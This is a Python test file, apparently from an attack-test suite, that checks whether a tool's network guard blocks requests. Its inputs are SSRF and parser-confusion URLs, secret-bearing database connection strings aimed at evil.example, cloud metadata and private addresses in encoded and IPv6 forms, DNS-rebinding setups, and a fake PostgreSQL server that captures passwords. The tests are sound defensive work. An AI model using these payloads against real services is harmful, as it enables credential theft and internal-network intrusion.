"""An address that the guard reads in one way and a library in another, or at another time: nothing is sent, and nobody is
reached. So with machines over SSH."""

from __future__ import annotations

import itertools
import json
import socket
import socketserver
import threading
from collections.abc import Iterator
from typing import Any

import pytest

from tests.attacks.conftest import NAMES, Network, Victim

pytestmark = pytest.mark.anyio
VALUE = "wheatearbrook77"
SLASH = "\\"

WEB = {
    "a backslash before the other host": f"http://good.example{SLASH}@evil.example/rows",
    "a backslash and a slash": f"http://good.example{SLASH}/@evil.example/rows",
    "two at signs": "http://me@good.example@evil.example/rows",
    "a tab": "http://good.example\t@evil.example/rows",
    "a line break in the scheme": "ht\ntp://evil.example/rows",
    "a letter that two standards read in two ways": "http://pre\u00df.example/rows",
}
DATABASES = {
    "two at signs, two hosts": "postgresql://me:${KEY}@evil.example:5432,x@good.example/db",
    "two at signs, brackets": "postgresql://me:${KEY}@[::ffff:1.1.1.1]:5432@good.example/db",
    "a backslash, MySQL": f"mysql://me:${{KEY}}@good.example{SLASH}@evil.example/db",
    "a backslash, PostgreSQL": f"postgresql://me:${{KEY}}@good.example{SLASH}@evil.example/db",
    "a line break in the scheme": "postgres\nql://me:${KEY}@evil.example:5432/db",
    "a metadata address in percent signs": "postgresql://me:${KEY}@169%2E254%2E169%2E254:5432/db",
    "a private address in percent signs": "postgresql://me@10%2E0%2E0%2E5:5432/db",
    "a socket in percent signs": "postgresql://me@%2Fvar%2Frun%2Fpostgresql/db",
}


def bind(victim: Victim, *hosts: str) -> None:
    for host in hosts:
        assert victim.run("secret", "set", "KEY", "--host", host, typed=f"{VALUE}\n").returncode == 0


@pytest.mark.parametrize("endpoint", WEB.values(), ids=list(WEB))
async def test_an_address_with_two_readings_is_not_asked(
    endpoint: str, victim: Victim, network: Network, monkeypatch: pytest.MonkeyPatch
) -> None:
    names = {
        **NAMES,
        "press.example": ["8.8.8.8"],
        "xn--pre-7ka.example": ["1.1.1.1"],
        "pre\u00df.example": ["8.8.8.8"],
    }
    monkeypatch.setenv("ATTACKED_NAMES", json.dumps(names))
    bind(victim, "good.example", "press.example", "localhost")
    async with victim.attack() as attack:
        await attack.create()
        said = await attack.api(endpoint, headers={"Authorization": "Bearer ${KEY}"})
    assert said.is_error
    assert not network.requests_carrying(VALUE)
    assert not network.reached


@pytest.mark.parametrize("connection", DATABASES.values(), ids=list(DATABASES))
async def test_a_database_is_looked_for_where_the_guard_looked(
    connection: str, victim: Victim, network: Network
) -> None:
    bind(victim, "good.example", "localhost")
    async with victim.attack() as attack:
        await attack.create()
        said = await attack.source(
            type="database", connection=connection, query="select 1", retries=0, connect_timeout_seconds=3
        )
    assert said.is_error
    assert not network.reached, said.text


@pytest.mark.parametrize("tool", ["try_model", "add_examples"])
async def test_a_model_is_asked_for_at_no_address_with_two_readings(
    tool: str, victim: Victim, network: Network
) -> None:
    bind(victim, "good.example")
    address = WEB["a backslash before the other host"]
    async with victim.attack() as attack:
        await attack.create()
        victim.plant(victim.inbox / "rows.csv", "text\n" + "".join(f"letter number {n}\n" for n in range(30)))
        await attack.file(victim.inbox / "rows.csv")
        if tool == "try_model":
            await attack(
                "try_model", task="mails", model="m", url=address, api_key="${KEY}", text="hello", confirm=True
            )
        else:
            await attack(
                "add_examples",
                task="mails",
                action="propose",
                by="endpoint",
                confirm=True,
                settings={"model": "m", "base_url": address, "api_key": "${KEY}"},
            )
    assert not network.requests_carrying(VALUE)
    assert not network.reached


@pytest.fixture
def curious(network: Network, monkeypatch: pytest.MonkeyPatch) -> Iterator[list[bytes]]:
    """A PostgreSQL server that asks for the password in plain text, and what it was told."""
    told: list[bytes] = []

    class Handler(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            self.request.settimeout(5)
            if self.request.recv(8) == b"\0\0\0\x08\x04\xd2\x16\x2f":
                self.request.sendall(b"N")
                self.request.recv(4096)
            self.request.sendall(b"R\0\0\0\x08\0\0\0\x03")
            told.append(self.request.recv(4096))

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler) as server:
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
        monkeypatch.setenv("ATTACKED_PORTS", json.dumps({"": network.web.port, "5432": server.server_address[1]}))
        yield told
        server.shutdown()


async def test_a_password_of_the_environment_or_a_file_goes_to_no_database(
    victim: Victim, curious: list[bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PGPASSWORD", VALUE)
    file = victim.home / ".pgpass"
    file.write_text(f"*:*:*:*:{VALUE}\n", encoding="utf-8")
    file.chmod(0o600)
    async with victim.attack() as attack:
        await attack.create()
        await attack.source(
            type="database", connection="postgresql://me@evil.example:5432/db", query="select 1", retries=0
        )
        monkeypatch.delenv("PGPASSWORD")
        await attack.source(
            type="database", connection="postgresql://me@evil.example:5432/db", query="select 1", retries=0
        )
    assert curious
    assert not [each for each in curious if VALUE.encode() in each]


@pytest.mark.parametrize("scheme", ["postgresql", "mysql"])
async def test_a_database_whose_name_leads_elsewhere_the_next_time_is_not_reached(
    scheme: str, victim: Victim, network: Network, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The first looks are the guard's, in the server and in the job; the next would be the driver's.
    monkeypatch.setenv("ATTACKED_NAMES", json.dumps({**NAMES, "rebinding.example": ["8.8.8.8"] * 2 + ["10.0.0.5"]}))
    async with victim.attack() as attack:
        await attack.create()
        await attack.source(
            type="database", connection=f"{scheme}://me@rebinding.example/db", query="select 1", retries=0
        )
    assert "10.0.0.5" not in network.reached


async def test_rows_do_not_leave_by_a_name_that_was_near_when_it_was_looked_up(
    victim: Victim, network: Network, monkeypatch: pytest.MonkeyPatch
) -> None:
    looks = itertools.cycle(["8.8.8.8", "10.0.0.5"])
    look_up = socket.getaddrinfo

    def changing(host: Any, port: Any, *rest: Any, **named: Any) -> Any:
        if host != "rebinding.example":
            return look_up(host, port, *rest, **named)
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (next(looks), int(port or 0)))]

    monkeypatch.setattr(socket, "getaddrinfo", changing)
    async with victim.attack() as attack:
        await attack.create(constraints={"privacy": "on-premise"})
        said = await attack("try_model", task="mails", model="m", url="http://rebinding.example", text="hello")
    assert said.is_error
    assert "nlp-skills allow" in said.text
    assert not network.reached


@pytest.mark.parametrize(
    "host", ["169.254.169.254:80", "metadata.google.internal:80", "10.0.0.5", "me@intranet.example:8080"]
)
async def test_a_machine_in_a_private_network_is_not_looked_for_without_the_person(
    host: str, victim: Victim, network: Network
) -> None:
    async with victim.attack() as attack:
        said = await attack("set_up", what="machine", name="box", settings={"host": host}, confirm=True)
        assert said.is_error
        assert not network.reached
        plain = host.rpartition("@")[2].partition(":")[0]
        assert victim.run("allow", "--host", plain).returncode in (0, 1, 2)
        await attack("set_up", what="machine", name="box", settings={"host": host}, confirm=True)
    metadata = not plain.startswith(("10.", "intranet"))
    assert bool(network.reached) is not metadata


async def test_a_machine_that_the_persons_own_ssh_files_name_is_asked(victim: Victim, network: Network) -> None:
    config = victim.home / ".ssh" / "config"
    config.parent.mkdir()
    config.write_text("Host box\n  HostName 10.0.0.5\n", encoding="utf-8")
    async with victim.attack() as attack:
        await attack("set_up", what="machine", name="box", settings={"host": "box"})
    assert {*network.reached} == {"10.0.0.5"}


@pytest.mark.parametrize(
    "host",
    [
        "[64:ff9b:1::a9fe:a9fe]",
        "[::ffff:0:a9fe:a9fe]",
        "[64:ff9b:1::a00:5]",
        "[::ffff:0:a00:5]",
        "[fec0::1]",
        "[64:ff9b:1:2::7f00:1]",
    ],
)
async def test_no_writing_in_ipv6_leads_inside(host: str, victim: Victim, network: Network) -> None:
    async with victim.attack() as attack:
        await attack.create()
        assert (await attack.api(f"http://{host}/rows")).is_error
        assert (await attack("try_model", task="mails", model="m", url=f"http://{host}", text="x")).is_error
    assert not network.reached
